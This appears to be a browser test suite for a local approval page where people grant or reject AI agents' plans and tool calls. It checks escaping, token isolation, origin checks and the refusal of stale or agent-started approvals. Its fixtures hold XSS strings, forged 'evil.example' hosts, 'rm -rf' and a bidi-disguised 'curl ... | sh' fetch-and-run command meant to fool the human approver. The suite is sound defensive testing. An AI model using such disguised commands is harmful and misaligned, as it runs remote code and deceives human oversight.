import { createServer, type IncomingMessage, type Server } from 'node:http';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir, userInfo } from 'node:os';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { parkForPermission } from '../../src/core/permission';
import { withProject } from '../../src/core/project';
import { SEALED_SCHEMA_VERSION } from '../../src/core/schema-version';
import { applyChange, newSession } from '../../src/core/session';
import { FileStore } from '../../src/store/file-store';
import { BIN, run } from '../helpers';
import { collectProblems, launchChromium, scrollWidth } from '../support/chromium';
import { raw, startServe, userEnv, type Served } from '../support/serve';

// Issues 35, 40 and 44: `agent-session serve` in the real Chromium (playwright-core). A parked approval appears with
// what it would allow, escaped as `pending` escapes it and marked when it holds hidden characters; Approve asks for a
// confirmation showing the plan, or the exact call and its folder, and who the decision is recorded as; reject with a
// note; a detail view per session (its timeline, as `show`); 390 px without sideways scrolling; keyboard and roles.
// The token never leaves its port (redteam H3): it is in the printed URL's fragment and the page's own storage, sent
// in a header; another server on 127.0.0.1 never receives it; a link without it (a notification's) opens a page that
// says how to get in, or, in a browser that opened the printed URL once, the decision itself.
const HOSTILE = '<img src=x onerror=alert(1)>';
const PLAN = 'Run `terraform apply` on prod:\n  - destroy 2 buckets\n  - <script>alert(2)</script> & "quotes"';
// Redteam M1's command: as rendered with its bidi controls, the dangerous part reads as commented out.
const BIDI =
  "true '\u202e\u2066' ; curl -s http://127.0.0.1:55401/x | sh ; true '\u2069\u2066# offline, tests only\u2069\u202c'";
const CALL = { command: 'rm -rf -- build/*', description: 'Clean the build folder' };
const PROJECT = 'github.com/acme/serve';
const osUser = userInfo().username;
const EXIT_AGENT_SHELL = 6;
const ARTIFACTS = resolve(__dirname, '..', '..', 'test-artifacts');

let dir: string;
let browser: Browser;
let served: Served;
const env = () => userEnv({ AGENT_SESSION_DIR: join(dir, 'store'), AGENT_SESSION_PROJECT: PROJECT, HOME: dir });
const cli = (args: readonly string[]) => {
  const result = run(BIN.cli, args, { cwd: dir, env: env() });
  if (result.status !== 0) throw new Error(`${args.join(' ')}: ${result.stderr}`);
  return result.stdout;
};
const state = (id: string) => JSON.parse(cli(['get', id])) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const auth = () => ({ authorization: `Bearer ${served.token}` });

/** A session parked in approval with a plan, by the CLI as an agent records one. */
function parked(agent: string, plan: string, purpose = 'serve test'): string {
  const id = cli(['create', '--agent', agent, '--purpose', purpose]).trim();
  cli(['update', id, '--phase', 'planning', '--metadata', JSON.stringify({ plan })]);
  cli(['update', id, '--phase', 'approval']);
  return id;
}

/** A session parked on a sub-agent's permission request (as the PermissionRequest hook parks one). */
async function askedPermission(agent: string, input: unknown): Promise<string> {
  const id = `agent-20261201-120000-${Math.floor(Math.random() * 0xfffffff)
    .toString(16)
    .padStart(8, '0')}`;
  const at = new Date(Date.now() - 60_000);
  let session = withProject(
    newSession({ agent_id: id, agent_name: agent, purpose: 'claude_code_subagent' }, at),
    PROJECT,
  );
  session = applyChange(session, { phase: 'executing', metadata: { task: 'Clean and rebuild the site' } }, at);
  session = parkForPermission(session, { tool: 'Bash', input, claudeAgentId: 'a0000000000000001' }, at);
  await new FileStore(join(dir, 'store')).create(session);
  return id;
}

let hostileId: string;
let plainId: string;
let bidiId: string;
let permissionId: string;
let busyId: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'agent-session-serve-'));
  hostileId = parked(HOSTILE, PLAN);
  plainId = parked('planner', 'split the migration in two', 'Split the orders migration');
  bidiId = parked('db-migrator', BIDI);
  permissionId = await askedPermission('site-builder', CALL);
  busyId = cli(['create', '--agent', 'builder', '--purpose', 'busy']).trim();
  cli(['update', busyId, '--phase', 'executing']);
  browser = await launchChromium();
  served = await startServe(dir, [], env());
}, 120_000);

afterAll(async () => {
  await served?.stop();
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function openPage(problems: string[], width = 1000, url = served.url): Promise<Page> {
  const page = await browser.newPage({ viewport: { width, height: 900 } });
  collectProblems(page, problems);
  await page.goto(url);
  return page;
}

const card = (page: Page, id: string) => page.locator(`#decision-list li[data-session="${id}"]`);
/** The card of a session waiting for approval (a rejected one stays a card: it waits in planning). */
const approvalCard = (page: Page, id: string) =>
  page.locator(`#decision-list li[data-session="${id}"][data-kind="approval"]`);

it('refuses data without the token in its header, another Host, cross-origin or non-JSON POSTs: nothing changes', async () => {
  const own = `http://127.0.0.1:${served.port}`;
  const post = (headers: Record<string, string>) =>
    raw(served.port, {
      method: 'POST',
      path: '/api/approve',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify({ id: plainId, subject: 'x' }),
    });
  const refused = [
    await raw(served.port, { path: '/api/state' }),
    await raw(served.port, { path: `/api/state?token=${served.token}` }),
    await raw(served.port, {
      path: '/api/state',
      headers: { cookie: `agent_session_token_${served.port}=${served.token}` },
    }),
    await raw(served.port, { path: `/api/session/${plainId}` }),
  ];
  expect(refused.map((answer) => [answer.status, JSON.parse(answer.body).error])).toEqual([
    [403, 'E_TOKEN'],
    [403, 'E_TOKEN'],
    [403, 'E_TOKEN'],
    [403, 'E_TOKEN'],
  ]);
  expect((await raw(served.port, { path: '/api/state', headers: { ...auth(), host: 'evil.example' } })).status).toBe(
    421,
  );
  const answers = [
    await post({}),
    await post({ ...auth(), origin: 'http://evil.example' }),
    await post({ ...auth(), origin: `http://127.0.0.1:${served.port + 1}` }),
    await post({ ...auth(), origin: own, 'content-type': 'text/plain' }),
  ];
  expect(answers.map((answer) => [answer.status, JSON.parse(answer.body).error])).toEqual([
    [403, 'E_TOKEN'],
    [403, 'E_ORIGIN'],
    [403, 'E_ORIGIN'],
    [415, 'E_CONTENT_TYPE'],
  ]);
  const preflight = await raw(served.port, {
    method: 'OPTIONS',
    path: '/api/approve',
    headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST' },
  });
  expect(preflight.status).toBe(403);
  for (const answer of [...refused, ...answers, preflight])
    expect(Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
  // The page itself opens without the token, and holds neither a secret nor a session's data.
  const page = await raw(served.port, { path: '/' });
  expect(page.status).toBe(200);
  expect(page.headers['content-security-policy']).toMatch(/default-src 'none'; script-src 'self'/);
  expect(page.headers['set-cookie']).toBeUndefined();
  expect(page.body).not.toContain(served.token);
  expect(page.body).not.toContain(PROJECT);
  expect(page.body).not.toContain('planner');
  expect(state(plainId).phase).toBe('approval');
  expect(state(plainId).decisions).toBeUndefined();
});

it('answers an unchanged store with 304 and no body; a change with the new model (issue 40 item 8)', async () => {
  const first = await raw(served.port, { path: '/api/state', headers: auth() });
  expect(first.status).toBe(200);
  const etag = first.headers.etag as string;
  expect(etag).toMatch(/^"[\w-]+"$/);
  expect(first.headers['x-agent-session-now']).toMatch(/^\d{4}-\d\d-\d\dT/);
  // The page counts waits from the instants; only a change of the store changes the answer.
  await new Promise((done) => setTimeout(done, 1_100));
  const again = await raw(served.port, { path: '/api/state', headers: { ...auth(), 'if-none-match': etag } });
  expect([again.status, again.body]).toEqual([304, '']);
  const extra = cli(['create', '--agent', 'etag-probe', '--purpose', 'p']).trim();
  const changed = await raw(served.port, { path: '/api/state', headers: { ...auth(), 'if-none-match': etag } });
  expect(changed.status).toBe(200);
  expect(changed.body).toContain(extra);
  cli(['delete', extra]);
});

it('never lets the token leave its port: another local server receives none of it (redteam H3)', async () => {
  const seen: string[] = [];
  const other: Server = createServer((request: IncomingMessage, response) => {
    seen.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>dev app</title><p>dev app</p>');
  });
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
  const otherPort = (other.address() as { port: number }).port;
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(served.url);
    // Live: the page holds the token and has used it (markup-free, so this test also runs against older pages).
    await page.locator('#live.live').waitFor({ timeout: 15_000 });
    // The token left the address bar for this origin's storage.
    expect(page.url()).toBe(`http://127.0.0.1:${served.port}/`);
    // The user browses another server of this machine, by address and by name, in the same browser.
    for (const host of ['127.0.0.1', 'localhost']) {
      await page.goto(`http://${host}:${otherPort}/some/page?x=1`);
      const visible = await page.evaluate(() => {
        const g = globalThis as unknown as {
          document: { cookie: string };
          localStorage: { length: number; key(i: number): string | null; getItem(k: string): string | null };
        };
        const stored: string[] = [];
        for (let i = 0; i < g.localStorage.length; i++)
          stored.push(`${g.localStorage.key(i)}=${g.localStorage.getItem(g.localStorage.key(i)!)}`);
        return `${g.document.cookie} ${stored.join(' ')}`;
      });
      expect(visible).not.toContain(served.token);
    }
    expect(seen.length).toBeGreaterThanOrEqual(2);
    expect(seen.join('\n')).not.toContain(served.token);
    expect((await context.cookies()).map((cookie) => cookie.value).join(' ')).not.toContain(served.token);
  } finally {
    await context.close();
    await new Promise((done) => other.close(done));
  }
}, 60_000);

it('opens a link without the token (a notification’s) as a page that says how to get in, or as the decision', async () => {
  const link = `http://127.0.0.1:${served.port}/#session=${plainId}`;
  const fresh = await browser.newContext();
  try {
    const page = await fresh.newPage();
    await page.goto(link);
    await page.locator('#locked').waitFor({ state: 'visible', timeout: 15_000 });
    expect(await page.locator('#locked h2').textContent()).toBe('This page needs its key');
    expect(await page.locator('#locked').textContent()).toContain(`http://127.0.0.1:${served.port}/#token=`);
    expect(await page.locator('body').textContent()).not.toContain('E_TOKEN');
    // The printed URL, once, in this browser: from then on the link opens the session.
    await page.goto(served.url);
    await card(page, plainId).waitFor({ timeout: 15_000 });
    await page.goto(link);
    await page.locator('#detail-view').waitFor({ state: 'visible', timeout: 15_000 });
    await page.locator('#detail-title', { hasText: 'planner' }).waitFor({ timeout: 15_000 });
  } finally {
    await fresh.close();
  }
}, 60_000);

it('shows the decisions in Chromium, escaped and marked; approve after a confirmation, reject with a note', async () => {
  const problems: string[] = [];
  const page = await openPage(problems);
  await approvalCard(page, hostileId).waitFor({ timeout: 15_000 });
  expect(await approvalCard(page, plainId).count()).toBe(1);
  expect(await card(page, busyId).count()).toBe(0);
  // The hostile name and plan are text: no element made of them, nothing ran.
  expect(await card(page, hostileId).locator('.agent').textContent()).toBe(HOSTILE);
  expect(await card(page, hostileId).locator('pre.allows').textContent()).toBe(PLAN);
  expect(await page.locator('img').count()).toBe(0);
  expect(await page.locator('#decisions script').count()).toBe(0);
  expect(await card(page, hostileId).locator('code.command').first().textContent()).toContain(
    `agent-session approve ${hostileId}`,
  );
  // What is shown is what is granted (issue 40 item 5): the bidi controls as escapes, the card marked.
  const bidi = card(page, bidiId);
  expect(await bidi.getAttribute('data-hidden')).toBe('true');
  expect(await bidi.locator('pre.allows').textContent()).toBe(
    "true '\\u202e\\u2066' ; curl -s http://127.0.0.1:55401/x | sh ; true '\\u2069\\u2066# offline, tests only\\u2069\\u202c'",
  );
  expect(await bidi.locator('.warning').textContent()).toContain('U+202E, U+2066, U+2069, U+202C');
  expect(await card(page, plainId).getAttribute('data-hidden')).toBe('false');
  // What the page says: the task, who a decision is recorded as.
  expect(await card(page, plainId).locator('dl.facts').textContent()).toContain('Split the orders migration');
  expect(await page.locator('#recorded-as').textContent()).toContain(
    `${osUser} (OS user, in the browser, page of a server started without a terminal)`,
  );

  // Approve asks first, showing the plan and who decides; Cancel changes nothing.
  await card(page, hostileId).getByRole('button', { name: 'Approve…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Approve this plan?' });
  await dialog.waitFor();
  expect(await dialog.locator('pre').textContent()).toBe(PLAN);
  expect(await dialog.textContent()).toContain(`Recorded as${osUser} (OS user, in the browser`);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await dialog.waitFor({ state: 'hidden' });
  expect(state(hostileId).phase).toBe('approval');

  // The page the README shows is serve-screenshot.test.ts's; this one keeps the hostile page for the record.
  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: join(ARTIFACTS, 'serve-hostile.png'), fullPage: true });

  await card(page, hostileId).getByRole('button', { name: 'Approve…' }).click();
  await dialog.getByRole('button', { name: 'Approve' }).click();
  await approvalCard(page, hostileId).waitFor({ state: 'detached', timeout: 15_000 });
  const approved = state(hostileId);
  expect(approved.phase).toBe('executing');
  expect(approved.decisions.at(-1)).toMatchObject({
    decision: 'approved',
    by: osUser,
    origin: { os_user: osUser, claimed: false, via: 'browser', terminal: false },
  });
  // The decision is sealed (issue 40): the newest schema, where the browser origin (10) alone once wrote 10.
  expect(approved.schema_version).toBe(SEALED_SCHEMA_VERSION);
  expect(cli(['show', hostileId])).toContain('(OS user, in the browser, page of a server started without a terminal)');

  await card(page, plainId).getByRole('textbox', { name: /Note/ }).fill('split it: <b>two</b> steps');
  await card(page, plainId).getByRole('button', { name: 'Reject' }).click();
  await approvalCard(page, plainId).waitFor({ state: 'detached', timeout: 15_000 });
  const rejected = state(plainId);
  expect(rejected.phase).toBe('planning');
  expect(rejected.decisions.at(-1)).toMatchObject({
    decision: 'rejected',
    by: osUser,
    note: 'split it: <b>two</b> steps',
    origin: { os_user: osUser, via: 'browser' },
  });
  expect(await page.locator('#flash').textContent()).toContain(`Rejected ${plainId}`);
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('grants a permission only after showing the exact call and its folder; by keyboard, focus kept', async () => {
  const problems: string[] = [];
  const page = await openPage(problems);
  const asked = card(page, permissionId);
  await asked.waitFor({ timeout: 15_000 });
  expect(await asked.getAttribute('data-kind')).toBe('permission');
  expect(await asked.locator('dl.facts').textContent()).toContain('Clean and rebuild the site');
  expect(await asked.locator('dl.facts').textContent()).toContain('not recorded with this request');
  const grant = asked.getByRole('button', { name: 'Grant once…' });
  await grant.focus();
  await page.keyboard.press('Enter');
  const dialog = page.getByRole('dialog', { name: 'Grant this call once?' });
  await dialog.waitFor();
  expect(JSON.parse((await dialog.locator('pre').textContent())!.replace(/^Bash /, ''))).toEqual(CALL);
  expect(await dialog.textContent()).toContain('Folder');
  // The dialog takes the focus, on the harmless choice; Escape gives it back to the button that opened it.
  expect(await page.evaluate(() => (globalThis as any).document.activeElement.id)).toBe('confirm-no'); // eslint-disable-line @typescript-eslint/no-explicit-any
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  expect(await grant.evaluate((node) => node === (globalThis as any).document.activeElement)).toBe(true); // eslint-disable-line @typescript-eslint/no-explicit-any
  expect(state(permissionId).permission_requests[0].status).toBe('pending');
  await page.keyboard.press('Enter');
  await dialog.waitFor();
  await dialog.getByRole('button', { name: 'Grant once' }).click();
  await card(page, permissionId).waitFor({ state: 'detached', timeout: 15_000 });
  expect(state(permissionId).permission_requests[0]).toMatchObject({ status: 'approved', input: CALL });
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('refuses a decision on what changed since it was shown (E_CHANGED), in the page and at the server', async () => {
  const id = parked('reviser', 'plan A');
  const problems: string[] = [];
  const page = await openPage(problems);
  await approvalCard(page, id).waitFor({ timeout: 15_000 });
  await card(page, id).getByRole('button', { name: 'Approve…' }).click();
  await page.getByRole('dialog').waitFor();
  // The agent rewrites its plan while the person reads the old one: the dialog closes, saying so.
  cli(['update', id, '--metadata', JSON.stringify({ plan: 'plan B: drop the database' })]);
  await page.getByRole('dialog').waitFor({ state: 'hidden', timeout: 15_000 });
  expect(await page.locator('#flash').textContent()).toContain('changed while you looked');
  // A client that sends what it saw before the change is refused by the server, nothing written.
  const model = JSON.parse((await raw(served.port, { path: '/api/state', headers: auth() })).body);
  const shownNow = model.decisions.find((row: { id: string }) => row.id === id).subject as string;
  cli(['update', id, '--metadata', JSON.stringify({ plan: 'plan C' })]);
  const late = await raw(served.port, {
    method: 'POST',
    path: '/api/approve',
    headers: { ...auth(), origin: `http://127.0.0.1:${served.port}`, 'content-type': 'application/json' },
    body: JSON.stringify({ id, subject: shownNow }),
  });
  expect([late.status, JSON.parse(late.body).error]).toEqual([409, 'E_CHANGED']);
  expect(state(id).phase).toBe('approval');
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('has a detail view per session: facts, timeline and decisions as `show`, and back to the list', async () => {
  const problems: string[] = [];
  const page = await openPage(problems);
  await page.locator(`#sessions tbody tr[data-session="${hostileId}"]`).waitFor({ timeout: 15_000 });
  const link = page.locator(`#sessions tbody tr[data-session="${hostileId}"] a.agent`);
  await link.click();
  await page.locator('#detail-title', { hasText: HOSTILE }).waitFor({ timeout: 15_000 });
  expect(new URL(page.url()).hash).toBe(`#session=${hostileId}`);
  // The focus moves to the view's heading (a screen reader hears where it is).
  expect(await page.evaluate(() => (globalThis as any).document.activeElement.id)).toBe('detail-title'); // eslint-disable-line @typescript-eslint/no-explicit-any
  const timeline = await page.locator('ol.timeline li').allTextContents();
  expect(timeline.map((line) => line.replace(/^\S+ \S+ UTC /, '').split(' ')[0])).toEqual([
    'initializing',
    'planning',
    'approval',
    'approved',
    'executing',
  ]);
  expect(timeline[3]).toContain(`by ${osUser} (OS user, in the browser, page of a server started without a terminal)`);
  expect(await page.locator('#detail-body dl.facts').first().textContent()).toContain(hostileId);
  expect(await page.locator('#detail-body').textContent()).toContain(PLAN.split('\n')[0]);
  expect(await page.locator('img').count()).toBe(0);
  await page.getByRole('link', { name: '← All sessions' }).click();
  await page.locator('#list-view').waitFor({ state: 'visible' });
  expect(await page.evaluate(() => (globalThis as any).document.activeElement.textContent)).toBe(HOSTILE); // eslint-disable-line @typescript-eslint/no-explicit-any
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('fits 390 px without sideways scrolling: the list, a marked request, the dialog and a detail view', async () => {
  const problems: string[] = [];
  const page = await openPage(problems, 390);
  await card(page, bidiId).waitFor({ timeout: 15_000 });
  await page.locator(`#sessions tbody tr[data-session="${busyId}"]`).waitFor({ timeout: 15_000 });
  expect(await scrollWidth(page)).toBeLessThanOrEqual(390);
  await card(page, bidiId).getByRole('button', { name: 'Approve…' }).click();
  await page.getByRole('dialog').waitFor();
  expect(await scrollWidth(page)).toBeLessThanOrEqual(390);
  const box = await page.getByRole('dialog').boundingBox();
  expect(box!.x).toBeGreaterThanOrEqual(0);
  expect(box!.x + box!.width).toBeLessThanOrEqual(390);
  await page.keyboard.press('Escape');
  await page.goto(`http://127.0.0.1:${served.port}/#session=${bidiId}`);
  await page.locator('#detail-title', { hasText: 'db-migrator' }).waitFor({ timeout: 15_000 });
  expect(await scrollWidth(page)).toBeLessThanOrEqual(390);
  mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: join(ARTIFACTS, 'serve-390.png'), fullPage: true });
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('shows a change made by the CLI elsewhere without a reload, and filters the sessions by phase and agent', async () => {
  const problems: string[] = [];
  const page = await openPage(problems);
  await page.locator(`#sessions tbody tr[data-session="${busyId}"]`).waitFor({ timeout: 15_000 });
  const marker = await page.evaluate(() => {
    (globalThis as unknown as { marker: number }).marker = 42;
    return 42;
  });
  const newId = parked('reviewer', 'ship it');
  // Generous: the page polls every second; under load the CLI and the poll take longer.
  await card(page, newId).waitFor({ timeout: 20_000 });
  cli(['update', busyId, '--phase', 'validating']);
  await page
    .locator(`#sessions tbody tr[data-session="${busyId}"][data-phase="validating"]`)
    .waitFor({ timeout: 20_000 });
  // No reload happened: the page's own state survived.
  expect(await page.evaluate(() => (globalThis as unknown as { marker: number }).marker)).toBe(marker);

  await page.selectOption('#filter-agent', 'reviewer');
  expect(await page.locator('#sessions tbody tr').count()).toBe(1);
  await page.selectOption('#filter-agent', '');
  await page.selectOption('#filter-phase', 'executing');
  const phases = await page
    .locator('#sessions tbody tr')
    .evaluateAll((rows) => rows.map((r) => r.getAttribute('data-phase')));
  expect(phases.length).toBeGreaterThan(0);
  expect(new Set(phases)).toEqual(new Set(['executing']));
  // The table fits a 1000 px window: nothing scrolls sideways.
  expect(await scrollWidth(page)).toBeLessThanOrEqual(1000);
  expect(problems).toEqual([]);
  await page.close();
}, 60_000);

it('refuses to start from an AI agent shell (exit 6), and stops on SIGTERM, freeing its port', async () => {
  const refused = run(BIN.cli, ['serve'], { cwd: dir, env: { ...env(), CLAUDECODE: '1' } });
  expect(refused.status).toBe(EXIT_AGENT_SHELL);
  expect(refused.stdout).toBe('');
  const port = served.port;
  await served.stop();
  await expect(raw(port, { path: '/' })).rejects.toMatchObject({ code: 'ECONNREFUSED' });
  expect(served.stderr()).toContain('stopped');
});
